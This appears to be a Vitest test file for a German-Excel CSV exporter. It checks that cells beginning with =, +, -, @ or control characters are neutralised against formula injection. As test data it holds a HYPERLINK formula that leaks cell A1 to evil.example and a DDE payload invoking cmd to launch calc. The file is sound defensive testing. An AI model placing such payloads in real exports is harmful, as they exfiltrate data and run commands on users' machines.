import { describe, expect, it } from 'vitest';
import { statsCsv } from '../analytics/analytics-csv';
import { germanExcelCsv } from './csv';

const cell = (value: string): string => germanExcelCsv([[value]]).slice(1, -2);

describe('germanExcelCsv', () => {
  it('writes UTF-8 with a BOM, semicolons and CRLF, quoting where needed', () => {
    expect(
      germanExcelCsv([
        ['Name', 'Anzahl'],
        ['Müller; Söhne', '1.234,5'],
        ['Sagt "Hallo"', '0'],
      ]),
    ).toBe('\uFEFFName;Anzahl\r\n"Müller; Söhne";1.234,5\r\n"Sagt ""Hallo""";0\r\n');
  });

  it.each([
    ['=', '=HYPERLINK("https://evil.example/?leak="&A1;"Details")', `"'=HYPERLINK(""https://evil.example/?leak=""&A1;""Details"")"`],
    ['+', '+1+cmd', `"'+1+cmd"`],
    ['-', "-2+3+cmd|' /C calc'!A0", `"'-2+3+cmd|' /C calc'!A0"`],
    ['@', '@SUM(1+1)', `"'@SUM(1+1)"`],
    ['a tab', '\t=1+1', `"'\t=1+1"`],
    ['a carriage return', '\r=1+1', `"'\r=1+1"`],
    ['a line feed', '\n=1+1', `"'\n=1+1"`],
    ['a full-width =', '\uFF1D1+1', `"'\uFF1D1+1"`],
  ])('neutralises a cell starting with %s (a leading apostrophe, quoted)', (_prefix, value, written) => {
    expect(cell(value)).toBe(written);
  });

  it('neutralises a formula over several lines', () => {
    expect(cell('=1+1\nzweite Zeile')).toBe(`"'=1+1\nzweite Zeile"`);
  });

  it('keeps negative German numbers numbers, and harmless text as it is', () => {
    expect(germanExcelCsv([['-75', '-1.234,5', '-0,5', 'A=B', 'Bus-Fahrer', '']])).toBe('\uFEFF-75;-1.234,5;-0,5;A=B;Bus-Fahrer;\r\n');
  });
});

describe('statsCsv', () => {
  it('neutralises a formula in a category (an ad, a company name) and in a header, never in the figures', () => {
    const csv = statsCsv(
      {
        categories: ['=HYPERLINK("https://evil.example")', '@Spedition GmbH', 'Müller GmbH'],
        series: [{ name: '+Umsatz', data: [-75, 1234.5, 0] }],
      },
      'Firma',
    );
    expect(csv).toBe(
      `\uFEFFFirma;"'+Umsatz"\r\n"'=HYPERLINK(""https://evil.example"")";-75\r\n"'@Spedition GmbH";1.234,5\r\nMüller GmbH;0\r\n`,
    );
  });
});
